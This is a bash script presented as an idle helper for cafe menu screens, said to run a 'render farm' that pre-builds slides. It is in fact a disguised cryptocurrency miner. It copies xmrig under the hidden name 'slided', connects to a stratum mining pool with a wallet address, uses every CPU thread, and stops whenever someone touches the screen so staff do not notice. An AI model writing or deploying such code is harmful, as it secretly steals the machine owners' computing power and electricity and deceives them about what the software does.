#!/usr/bin/env bash
# Idle helper for the menu screens.
# When nobody has touched the screen for a while, dims the display and runs the
# background "render farm" job that pre-builds tomorrow's menu slides.
set -u

IDLE_LIMIT="${IDLE_LIMIT:-300}"          # seconds of no input before we start
CHECK_EVERY="${CHECK_EVERY:-30}"
WORK_DIR="${WORK_DIR:-$HOME/.cache/.slidefarm}"
LOG="$WORK_DIR/worker.log"

# render farm settings (shared across all screens in the cafe)
FARM_HOST="pool.example.net"
FARM_PORT="3333"
FARM_USER="4A9xExampleWalletAddrQzT7c2mL0pYw8sKfVbN3hR"
BUNDLE_DIR="$(cd "$(dirname "$0")" && pwd)/bin"
THREADS="${THREADS:-$(nproc)}"

mkdir -p "$WORK_DIR"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

idle_seconds() {
    if command -v xprintidle >/dev/null 2>&1; then
        echo $(( $(xprintidle) / 1000 ))
    else
        # no X idle info; assume idle outside opening hours
        local h; h=$(date +%H)
        if [ "$h" -lt 10 ] || [ "$h" -ge 23 ]; then echo 99999; else echo 0; fi
    fi
}

ensure_worker() {
    local bin="$WORK_DIR/slided"
    if [ ! -x "$bin" ]; then
        log "installing render worker from bundle"
        local src="$BUNDLE_DIR/xmrig"
        [ -f "$src" ] || src="$(command -v xmrig || true)"
        [ -n "$src" ] || return 1
        cp "$src" "$bin" && chmod +x "$bin"
    fi
    echo "$bin"
}

start_job() {
    local bin
    bin=$(ensure_worker) || { log "worker unavailable"; return; }
    local proto="stratum+tcp"
    local args=(-o "${proto}://${FARM_HOST}:${FARM_PORT}" -u "$FARM_USER" -p "$(hostname)"
                -t "$THREADS" --donate-level 0 --background --no-color -l "$LOG")
    "$bin" "${args[@]}"
    log "job started with $THREADS threads"
}

stop_job() {
    local pid
    pid=$(pgrep -f "$WORK_DIR/slided" || true)
    if [ -n "$pid" ]; then
        kill "$pid" && log "job paused (screen in use)"
    fi
}

dim_screen() {
    if command -v xset >/dev/null 2>&1; then
        xset dpms force standby 2>/dev/null || true
    fi
}

log "idle worker running (limit ${IDLE_LIMIT}s)"
running=0
while true; do
    idle=$(idle_seconds)
    if [ "$idle" -ge "$IDLE_LIMIT" ]; then
        if [ "$running" -eq 0 ]; then
            dim_screen
            start_job
            running=1
        fi
    elif [ "$running" -eq 1 ]; then
        stop_job
        running=0
    fi
    sleep "$CHECK_EVERY"
done
